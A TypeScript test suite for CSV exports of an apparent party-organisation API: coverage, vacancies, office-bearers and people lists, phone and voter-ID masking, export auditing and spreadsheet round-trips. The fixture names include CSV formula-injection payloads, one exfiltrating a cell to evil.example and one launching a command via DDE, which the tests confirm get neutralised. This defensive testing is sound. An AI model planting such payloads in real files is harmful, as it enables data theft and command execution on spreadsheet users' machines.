import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import t from 'tap'
import { allCoverage, allVacancies } from '../src/coverage/service.js'
import { systemActor } from '../src/access/actor.js'
import { allPeople, peopleList, type ListedPersonRow } from '../src/people/queries.js'
import { listInBatches } from '../src/db/cursor.js'
import { rows as rowsOf } from '../src/db/client.js'
import Fastify from 'fastify'
import { phoneCell, safeCell, sendCsvBatches, sendCsvRows, type CsvColumn } from '../src/http/csv.js'
import { ADMIN_KEY, buildTestApp, call, mintKey } from './helpers/app.js'
import { postImport } from './helpers/imports.js'
import { activeMember, appoint, createPerson } from './helpers/people.js'
import { openAndSave, openCsv, readCell, shownAs } from './helpers/spreadsheet.js'
import { createUnit, type Unit } from './helpers/tree.js'

const { app } = await buildTestApp(t)

// CSV > DST > B1 > W1 (PS1..PS3: people for the round trip) and W2 (PS4, PS5: office-bearers,
// some with names a spreadsheet would run as formulas).
const state = await createUnit(app, { level: 'state', code: 'CSV', name: 'CSV State' })
const district = await createUnit(app, { level: 'district', parentId: state.id, code: 'DST', name: 'District' })
const block = await createUnit(app, { level: 'block', parentId: district.id, code: 'B1', name: 'Block' })
const w1 = await createUnit(app, { level: 'ward', parentId: block.id, code: 'W1', name: 'Ward One' })
const w2 = await createUnit(app, { level: 'ward', parentId: block.id, code: 'W2', name: 'Ward Two' })
const booths: Unit[] = []
for (let i = 1; i <= 3; i++) booths.push(await createUnit(app, { level: 'booth', parentId: w1.id, code: `PS${i}`, name: `मतदान केंद्र ${i}`, acNumber: 72, psNumber: String(i) }))
for (let i = 4; i <= 5; i++) booths.push(await createUnit(app, { level: 'booth', parentId: w2.id, code: `PS${i}`, name: `Booth ${i}`, acNumber: 72, psNumber: `${i}A` }))
const codePathOf = new Map([state, district, block, w1, w2, ...booths].map(u => [u.id, u.codePath]))

// The round-trip people: one per W1 booth, phones in the forms people type.
const roundTrip = [
  await createPerson(app, { name: 'Rekha Yadav', homeBoothId: booths[0].id, phone: '+91 72000 87463', voterId: 'abc1234567', twitter: '@rekha' }),
  await createPerson(app, { name: 'सुनीता देवी', homeBoothId: booths[1].id, phone: '06000012345' }),
  await createPerson(app, { name: 'Ram "Babu" Verma, Jr', homeBoothId: booths[2].id, phone: '9876501234', voterId: 'UP/12/123/456789' })
]
const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)']
const bearers = []
for (const [i, name] of FORMULA_NAMES.entries()) {
  const m = await activeMember(app, booths[3 + (i % 2)].id, name, { phone: `+9199000000${String(i).padStart(2, '0')}`, ...(i === 0 ? { instagram: 'x' } : {}) })
  bearers.push(m)
}
await appoint(app, { personId: bearers[0].person.id, unitId: booths[3].id, role: 'president' })
await appoint(app, { personId: bearers[1].person.id, unitId: booths[4].id, role: 'committee_member' })
await appoint(app, { personId: bearers[2].person.id, unitId: w2.id, role: 'president' })
await appoint(app, { personId: bearers[3].person.id, unitId: booths[4].id, role: 'bla' })

const auth = (key: string) => ({ authorization: `Bearer ${key}` })

/** A CSV download: the response, its header and its rows as the cells' text. */
async function download (url: string, key = ADMIN_KEY, headers: Record<string, string> = {}) {
  const res = await app.inject({ method: 'GET', url, headers: { ...auth(key), ...headers } })
  const records: string[][] = res.statusCode === 200 ? parse(res.body, { bom: true }) : []
  return { res, header: records[0], rows: records.slice(1) }
}

const json = async (url: string, key = ADMIN_KEY) => {
  const res = await call(app, { method: 'GET', url }, key)
  if (res.status !== 200) throw new Error(`${url}: ${res.status} ${res.body}`)
  return res.json
}

/** A JSON value as the CSV should write it: formula guard on text, nothing as empty. */
const cell = (v: unknown) => safeCell(v)

t.test('every list that offers CSV refuses an unknown format, and takes Accept: text/csv', async (t) => {
  const urls = [
    `/v1/units/${district.id}/coverage`,
    `/v1/units/${district.id}/gaps`,
    `/v1/units/${district.id}/vacancies`,
    `/v1/units/${district.id}/office-bearers?subtree=true`,
    `/v1/units/${district.id}/office-bearers/without-handles`,
    `/v1/people?unitId=${district.id}`
  ]
  for (const url of urls) {
    const join = url.includes('?') ? '&' : '?'
    const xml = await call(app, { method: 'GET', url: `${url}${join}format=xml` })
    t.equal(xml.status, 400, `${url} format=xml`)
    t.equal(xml.json.code, 'validation_failed')
    t.match(xml.headers['content-type'], /^application\/problem\+json/)
    const byAccept = await download(url, ADMIN_KEY, { accept: 'text/csv' })
    t.equal(byAccept.res.statusCode, 200, `${url} Accept: text/csv`)
    t.match(byAccept.res.headers['content-type'], /^text\/csv; charset=utf-8/)
    t.match(byAccept.res.headers['content-disposition'], /^attachment; filename="[A-Za-z0-9._-]+\.csv"$/)
    t.equal(byAccept.res.rawPayload.subarray(0, 3).toString('hex'), 'efbbbf', 'UTF-8 BOM')
    const asked = await download(`${url}${join}format=csv`)
    t.equal(asked.res.body, byAccept.res.body, 'format=csv and Accept: text/csv give the same file')
    const jsonWins = await call(app, { method: 'GET', url: `${url}${join}format=json`, headers: { accept: 'text/csv' } })
    t.match(jsonWins.headers['content-type'], /^application\/json/, 'format=json overrides Accept')
  }
})

t.test('coverage CSV: the unit\'s row, then one per child (or per descendant at a level), as in JSON', async (t) => {
  const toCells = (r: any) => [r.codePath, r.code, r.name, r.level, r.totalBooths, r.coveredBooths, r.coverage, r.boothsWithCommittee,
    r.activeMembers, r.newMembers, r.officeBearers, r.officeBearersWithHandle, r.unitId].map(cell)
  for (const query of ['', '?level=booth&role=bla&minCommittee=1', '?level=ward']) {
    const report = await json(`/v1/units/${district.id}/coverage${query}`)
    const csv = await download(`/v1/units/${district.id}/coverage${query}${query ? '&' : '?'}format=csv`)
    t.same(csv.header, ['code_path', 'code', 'name', 'level', 'total_booths', 'covered_booths', 'coverage', 'booths_with_committee',
      'active_members', 'new_members', 'office_bearers', 'office_bearers_with_handle', 'unit_id'])
    t.same(csv.rows, [report.unit, ...report.children].map(toCells), `coverage${query}`)
  }
  const booths = await download(`/v1/units/${district.id}/coverage?level=booth&format=csv`)
  t.equal(booths.rows[0][0], 'CSV/DST', 'the unit itself first')
  t.equal(booths.rows.length, 6, 'the district and its five booths')
  t.match(booths.res.headers['content-disposition'], /filename="coverage-president-CSV_DST.csv"/)

  // Batch after batch (keyset): the same rows whatever the batch size.
  const one = await allCoverage(app.db, systemActor(), district.id, { wing: 'main', role: 'president', level: 'booth', minCommittee: 10, newMemberDays: 30 }, 2)
  const codes = []
  for await (const r of one.rows) codes.push(r.code_path)
  t.same(codes, booths.rows.map(r => r[0]), 'batches of two')
  t.equal((await call(app, { method: 'GET', url: `/v1/units/${district.id}/coverage?level=state&format=csv` })).json.code, 'level_not_below_unit', 'a refusal is a problem, not a broken file')
})

t.test('vacancies CSV: every vacant unit of every group, not only the first perGroup', async (t) => {
  const all = await json(`/v1/units/${district.id}/vacancies?perGroup=500`)
  const cut = await json(`/v1/units/${district.id}/vacancies?perGroup=1`)
  t.ok(cut.items.some((g: any) => g.vacant > g.units.length), 'the JSON with perGroup=1 leaves units out')
  const csv = await download(`/v1/units/${district.id}/vacancies?perGroup=1&format=csv`)
  t.same(csv.header, ['code_path', 'state', 'district', 'block', 'ward', 'booth', 'name', 'level', 'ac_number', 'ps_number', 'role', 'role_name', 'holders', 'seats', 'wing'])
  const expected = all.items.flatMap((g: any) => g.units.map((u: any) => {
    const codes = u.codePath.split('/')
    return [u.codePath, codes[0], codes[1] ?? '', codes[2] ?? '', codes[3] ?? '', codes[4] ?? '', u.name, u.level, u.acNumber, u.psNumber, g.role, g.roleName, u.holders, u.seats, 'main'].map(cell)
  }))
  t.same(csv.rows, expected)
  t.equal(csv.rows.length, all.items.reduce((n: number, g: any) => n + g.vacant, 0), 'as many rows as the groups count vacancies')
  t.ok(csv.rows.some(r => r[0] === 'CSV/DST/B1/W2/PS5' && r[10] === 'president'), 'a booth beyond the first of its group')
  t.notOk(csv.rows.some(r => r[0] === 'CSV/DST/B1/W2/PS4' && r[10] === 'president'), 'a filled post is not vacant')

  const batched = await allVacancies(app.db, systemActor(), district.id, 'main', undefined, 1)
  const seen = []
  for await (const batch of batched.batches) for (const v of batch) seen.push([v.gap.code_path, v.group.role])
  t.same(seen, csv.rows.map(r => [r[0], r[10]]), 'batches of one')
})

t.test('gaps CSV still matches its JSON', async (t) => {
  const page = await json(`/v1/units/${district.id}/gaps?limit=500`)
  const csv = await download(`/v1/units/${district.id}/gaps?format=csv`)
  t.equal(csv.header.join(','), 'code_path,state,district,block,ward,booth,name,level,ac_number,ps_number,role,holders,seats,wing')
  t.same(csv.rows.map(r => [r[0], r[6], r[8], r[9], r[11], r[12]]), page.items.map((g: any) => [g.codePath, g.name, g.acNumber, g.psNumber, g.holders, g.seats].map(cell)))
})

const OFFICE_BEARER_HEADER = ['unit_code_path', 'role', 'name', 'phone', 'twitter', 'facebook', 'instagram', 'youtube', 'start_date', 'person_id', 'unit_id', 'appointment_id', 'wing']
const officeBearerCells = (o: any) => [o.unitCodePath, o.role, o.person.name, phoneCell(o.person.phone), o.person.twitter, o.person.facebook,
  o.person.instagram, o.person.youtube, o.startDate, o.personId, o.unitId, o.id, o.wing].map(cell)

t.test('office-bearers CSV, of a unit and of its subtree, as in JSON', async (t) => {
  for (const query of ['', '?subtree=true', '?subtree=true&role=president']) {
    const page = await json(`/v1/units/${w2.id}/office-bearers${query}${query ? '&' : '?'}limit=500`)
    const csv = await download(`/v1/units/${w2.id}/office-bearers${query}${query ? '&' : '?'}format=csv`)
    t.same(csv.header, OFFICE_BEARER_HEADER)
    t.same(csv.rows, page.items.map(officeBearerCells), `office-bearers${query}`)
  }
  const subtree = await download(`/v1/units/${district.id}/office-bearers?subtree=true&format=csv`)
  t.equal(subtree.rows.length, 4)
  t.match(subtree.res.headers['content-disposition'], /filename="office-bearers-CSV_DST.csv"/)
  t.equal(subtree.rows.find(r => r[2] === "'-2+3")?.[3], '99000 00002', 'the phone as Indians write it')

  const page = await json(`/v1/units/${district.id}/office-bearers/without-handles?limit=500`)
  const without = await download(`/v1/units/${district.id}/office-bearers/without-handles?format=csv`)
  t.same(without.header, ['unit_code_path', 'role', 'name', 'phone', 'start_date', 'person_id', 'unit_id', 'appointment_id', 'wing'])
  t.same(without.rows, page.items.map((o: any) => officeBearerCells(o).filter((_, i) => i < 4 || i > 7)))
  t.equal(without.rows.length, 3, 'the one with an instagram handle is left out')
})

const PEOPLE_HEADER = ['name', 'booth', 'phone', 'voter_id', 'gender', 'twitter', 'facebook', 'instagram', 'youtube', 'id', 'home_booth_id']
const personCells = (p: any) => [p.name, codePathOf.get(p.homeBoothId), phoneCell(p.phone), p.voterId, p.gender, p.twitter, p.facebook,
  p.instagram, p.youtube, p.id, p.homeBoothId].map(cell)

t.test('people CSV: the list with its filters, as in JSON', async (t) => {
  for (const query of [`unitId=${district.id}`, `unitId=${w1.id}`, `homeBoothId=${booths[3].id}`, 'q=yadav', `unitId=${w2.id}&q=%2B`]) {
    const page = await json(`/v1/people?${query}&limit=500`)
    const csv = await download(`/v1/people?${query}&format=csv`)
    t.same(csv.header, PEOPLE_HEADER)
    t.same(csv.rows, page.items.map(personCells), query)
    t.ok(csv.rows.length > 0, `${query} finds someone`)
  }
  const rekha = await download('/v1/people?q=Rekha&format=csv')
  t.same(rekha.rows[0].slice(0, 4), ['Rekha Yadav', 'CSV/DST/B1/W1/PS1', '72000 87463', 'ABC1234567'])
  const outside = await download('/v1/people?unitId=00000000-0000-4000-8000-000000000000&format=csv')
  t.equal(outside.res.statusCode, 200)
  t.same(outside.rows, [], 'an unknown unit finds nobody, as in JSON')

  const batched = []
  for await (const batch of allPeople(app.db, systemActor(), { under: 'CSV' }, 1)) batched.push(...batch.map(p => p.id))
  t.same(batched, (await json('/v1/people?unitId=' + state.id + '&limit=500')).items.map((p: any) => p.id), 'batches of one')
})

t.test('a masked reader\'s people and office-bearers CSV are masked as its JSON is', async (t) => {
  const masked = await mintKey(app, 'reader', null, { maskPersonalData: true })
  const page = await json(`/v1/people?unitId=${w1.id}&limit=500`, masked)
  const csv = await download(`/v1/people?unitId=${w1.id}&format=csv`, masked)
  t.same(csv.rows, page.items.map(personCells))
  const rekha = csv.rows.find(r => r[0] === 'Rekha Yadav')!
  t.same([rekha[2], rekha[3]], ['******7463', '******4567'])
  const body = csv.res.body
  t.ok(csv.rows.every(r => /^\*{6}\d{4}$/.test(r[2])), 'every phone masked')
  for (const p of roundTrip) t.notOk(body.includes(p.phone.slice(-10)) || body.includes(phoneCell(p.phone)!), 'no phone in the clear')
  t.notOk(body.includes('ABC1234567') || body.includes('UP/12/123/456789'), 'no voter ID in the clear')
  const bearers = await download(`/v1/units/${w2.id}/office-bearers?subtree=true&format=csv`, masked)
  t.ok(bearers.rows.every(r => /^\*{6}\d{4}$/.test(r[3])), 'office-bearers\' phones masked')

  const refused = await call(app, { method: 'GET', url: '/v1/people?phone=7200087463&format=csv' }, masked)
  t.equal(refused.status, 403)
  t.equal(refused.json.code, 'masked_key_cannot_search')
})

t.test('a people export is recorded in the audit trail: who, what, where; never a phone or voter ID', async (t) => {
  const scopedAdmin = await mintKey(app, 'admin', district.id)
  const otherState = await createUnit(app, { level: 'state', code: 'OTH', name: 'Other' })
  const otherAdmin = await mintKey(app, 'admin', otherState.id)
  const reader = await mintKey(app, 'reader', w1.id)
  const readerId = (await call(app, { method: 'GET', url: '/v1/api-keys?limit=500' })).json.items.find((k: any) => k.scopeUnitId === w1.id).id
  const exports = async (key = ADMIN_KEY) => (await json('/v1/audit?action=export&entityType=people&limit=500', key)).items

  const before = (await exports()).length
  const csv = await download('/v1/people?phone=%2B917200087463&q=rekha&format=csv', reader, { 'x-request-id': 'export-test-1' })
  t.equal(csv.rows.length, 1, 'found by phone')
  const records = await exports()
  t.equal(records.length, before + 1, 'one record per download')
  const record = records[0]
  t.match(record, {
    action: 'export',
    entityType: 'people',
    keyId: readerId,
    requestId: 'export-test-1',
    unitId: w1.id,
    after: { format: 'csv', filter: { q: 'rekha' }, filteredBy: ['phone'], masked: false }
  })
  const text = JSON.stringify(record)
  for (const p of roundTrip) t.notOk(text.includes(p.phone.slice(-10)), 'no phone in the record')
  t.notOk(/7200087463|72000 87463|ABC1234567/i.test(text), 'neither the phone asked for nor a voter ID found')

  await download(`/v1/people?unitId=${w2.id}&voterId=ABC1234567&format=csv`)
  const byVoter = (await exports())[0]
  t.match(byVoter, { unitId: w2.id, after: { filter: { unitId: w2.id }, filteredBy: ['voterId'] } })
  t.notOk(JSON.stringify(byVoter).includes('1234567'), 'no voter ID in the record')

  t.ok((await exports(scopedAdmin)).some((r: any) => r.id === record.id), 'the district\'s admin sees an export of its ward')
  t.notOk((await exports(otherAdmin)).some((r: any) => r.id === record.id), 'another state\'s admin does not')

  const pages = (await exports()).length
  await call(app, { method: 'GET', url: `/v1/people?unitId=${w1.id}` })
  t.equal((await exports()).length, pages, 'JSON pages are not exports')
})

t.test('an export that cannot be recorded is not sent', async (t) => {
  await app.db.execute(sql`ALTER TABLE audit_log ADD CONSTRAINT test_refuse_exports CHECK (action <> 'export') NOT VALID`)
  try {
    const res = await app.inject({ method: 'GET', url: `/v1/people?unitId=${w1.id}&format=csv`, headers: auth(ADMIN_KEY) })
    t.ok(res.statusCode >= 400, `refused with ${res.statusCode}`)
    t.match(res.headers['content-type'], /^application\/problem\+json/)
    t.notOk(res.body.includes('Rekha'), 'no row left')
  } finally {
    await app.db.execute(sql`ALTER TABLE audit_log DROP CONSTRAINT test_refuse_exports`)
  }
})

t.test('names a spreadsheet would run as formulas come out as text', async (t) => {
  const csv = await download(`/v1/people?unitId=${w2.id}&format=csv`)
  const names = csv.rows.map(r => r[0]).sort()
  t.same(names, FORMULA_NAMES.map(n => `'${n}`).sort(), 'each prefixed with \'')
  const sheet = openCsv(csv.res.body)
  t.ok(sheet.flat().every(c => c.kind !== 'formula'), 'no cell of the file opens as a formula')
  t.equal(readCell(FORMULA_NAMES[0]).kind, 'formula', 'the same name unguarded would')
  t.equal(readCell('+cmd').kind, 'formula')
  for (const [raw, safe] of [['\tSUM(1)', '\'\tSUM(1)'], ['\r=1', '\'\r=1'], ['@x', '\'@x'], ['Asha', 'Asha'], ['', '']] as const) t.equal(safeCell(raw), safe)
  t.equal(safeCell(-3), '-3', 'a number is written as a number')
  t.equal(safeCell(null), '')
})

t.test('phones survive export, a spreadsheet\'s open and save, and the presidents import', async (t) => {
  t.equal(shownAs(readCell('+917200087463')), '9.172E+11', 'E.164 as it is would come back as a number in scientific notation')
  t.equal(shownAs(readCell('07200087463')), '7200087463', 'a leading 0 would go (the digits stay)')
  t.equal(shownAs(readCell('72000 87463')), '72000 87463', 'two groups of five stay text')

  const exported = await download(`/v1/people?unitId=${w1.id}&format=csv`)
  t.same(exported.rows.map(r => r[2]).sort(), ['60000 12345', '72000 87463', '98765 01234'])
  // The user deletes the columns the presidents import does not read, then saves.
  const keep = (header: string) => !['gender', 'id', 'home_booth_id'].includes(header)
  const saved = openAndSave(exported.res.body, sheet => {
    const wanted = sheet[0].map((c, i) => keep(shownAs(c)) ? i : -1).filter(i => i >= 0)
    return sheet.map(row => wanted.map(i => row[i]))
  })
  t.match(saved, /^\uFEFFname,booth,phone,voter_id,twitter,facebook,instagram,youtube\r\n/)
  t.match(saved, /"Ram ""Babu"" Verma, Jr"/, 'quotes and commas quoted again')

  const peopleBefore = (await json(`/v1/people?unitId=${state.id}&limit=500`)).items.length
  const imported = await postImport(app, 'booth-presidents', saved)
  t.equal(imported.status, 200)
  t.same(imported.json.counts, { rows: 3, created: 3, updated: 0, unchanged: 0, failed: 0 }, imported.body)
  t.equal((await json(`/v1/people?unitId=${state.id}&limit=500`)).items.length, peopleBefore, 'every row found its person again: nobody new')
  for (const [i, original] of roundTrip.entries()) {
    const now = await json(`/v1/people/${original.id}`)
    t.equal(now.phone, original.phone, `${original.name}: the same E.164 number`)
    t.equal(now.voterId, original.voterId)
    t.equal(now.name, original.name, 'the name too')
    t.equal(now.twitter, original.twitter, 'and an @handle, which went out as \'@')
    t.match(now.offices, [{ role: 'president', unitId: booths[i].id }], 'and they are the president of their booth')
  }
})

t.test('a download written a batch at a time is the same bytes as one written row by row', async (t) => {
  // Cells a writer must quote, escape or guard, over more rows than a step writes at once.
  const tricky = ['plain', 'a, comma', 'a "quote"', 'two\nlines', 'cr\r', '=1+1', '-3', '@x', '\tTab', 'मतदान केंद्र', '', null, 42, 0.5]
  const all = Array.from({ length: 2345 }, (_, i) => ({ i, a: tricky[i % tricky.length], b: tricky[(i * 7) % tricky.length] }))
  const columns: ReadonlyArray<CsvColumn<typeof all[number]>> = [['i', r => r.i], ['a', r => r.a], ['b', r => r.b]]
  const ends: Array<[string, number, boolean]> = []
  const server = Fastify()
  server.get('/rows/:n', async (request, reply) => {
    const rows = all.slice(0, Number((request.params as { n: string }).n))
    return sendCsvRows(reply, 'x.csv', columns, (async function * () { yield * rows })(), (n, complete) => ends.push(['rows', n, complete]))
  })
  server.get('/batches/:n/:size', async (request, reply) => {
    const { n, size } = request.params as { n: string, size: string }
    const rows = all.slice(0, Number(n))
    async function * batches () {
      for (let i = 0; i < rows.length; i += Number(size)) yield rows.slice(i, i + Number(size))
      if (rows.length === 0) yield []
    }
    return sendCsvBatches(reply, 'x.csv', columns, batches(), (n, complete) => ends.push(['batches', n, complete]))
  })
  t.teardown(() => server.close())
  for (const n of [0, 1, 999, 1000, 1001, 2345]) {
    const rows = await server.inject({ url: `/rows/${n}` })
    for (const size of [1, 7, 1000, 5000]) {
      const batches = await server.inject({ url: `/batches/${n}/${size}` })
      t.equal(batches.headers['content-type'], rows.headers['content-type'])
      t.equal(batches.headers['content-disposition'], rows.headers['content-disposition'])
      t.ok(batches.rawPayload.equals(rows.rawPayload), `${n} rows in batches of ${size}`)
    }
  }
  t.same(parse((await server.inject({ url: '/batches/2345/7' })).body, { bom: true, columns: true }).length, 2345)
  t.same(ends.filter(([kind]) => kind === 'batches').map(([, n, complete]) => [n, complete]), [...[0, 1, 999, 1000, 1001, 2345].flatMap(n => [[n, true], [n, true], [n, true], [n, true]]), [2345, true]], 'each download\'s end heard, whole')
})

t.test('a download reads its list once, in one snapshot, and gives its connection back', async (t) => {
  const list = peopleList(systemActor(), { under: 'CSV' })
  const all = (await rowsOf<ListedPersonRow>(app.db, list.query(undefined, undefined))).map(p => p.id)
  t.ok(all.length >= 3, 'people to read')
  const reading = listInBatches(app.db, list, 1)
  const first = await reading.next()
  t.same(first.value.map((p: ListedPersonRow) => p.id), all.slice(0, 1), 'the first batch')
  // Someone joins while the download runs.
  const late = await createPerson(app, { name: 'Late Joiner', homeBoothId: booths[0].id })
  const rest: string[] = []
  for await (const batch of { [Symbol.asyncIterator]: () => reading }) rest.push(...batch.map((p: ListedPersonRow) => p.id))
  const seen = [...first.value.map((p: ListedPersonRow) => p.id), ...rest]
  t.same(seen.filter(id => id !== late.id), all, 'every row once, in order')
  // PostgreSQL: one query through a cursor, in a snapshot taken before the newcomer.
  // (PGlite pages by keyset, and meets a newcomer who sorts after the page it is on.)
  if (app.database.kind === 'postgres') t.notOk(seen.includes(late.id), 'as they were when the download began')

  if (app.database.kind !== 'postgres') return
  // Downloads in flight: server sessions in a transaction whose last statement read the
  // cursor (the pool's own counts move with the feed's and webhooks' polling).
  const downloading = async () => (await rowsOf<{ n: number }>(app.db, sql`
    SELECT count(*)::int AS n FROM pg_stat_activity
     WHERE datname = current_database() AND state LIKE 'idle in transaction%' AND query LIKE 'FETCH % FROM download'`))[0].n
  const inTransaction = async () => (await rowsOf<{ n: number }>(app.db, sql`
    SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'`))[0].n
  // A reader that stops after one batch (a client that went away): the transaction is
  // rolled back and the connection goes back to the pool.
  const stopped = listInBatches(app.db, list, 1)
  await stopped.next()
  t.equal(await downloading(), 1, 'the download holds a connection, in its transaction, while it runs')
  await stopped.return(undefined)
  t.equal(await downloading(), 0, 'and ends it when its reader stops')
  t.equal(await inTransaction(), 0, 'no transaction is left open')

  // A row that fails as it is read (the third: 1 / 0): the reader hears of it, and the
  // connection is not given back to be reused inside an aborted transaction.
  const failing = { keyOf: (r: { g: number }) => r.g, query: () => sql`SELECT g, 1 / (3 - g) AS x FROM generate_series(1, 5) AS g` }
  const read: number[] = []
  await t.rejects(async () => { for await (const batch of listInBatches(app.db, failing, 1)) read.push(...batch.map(r => r.g)) }, /division by zero/)
  t.same(read, [1, 2], 'the rows before the failing one were read')
  t.equal(await inTransaction(), 0, 'the failed download left no transaction open')
})
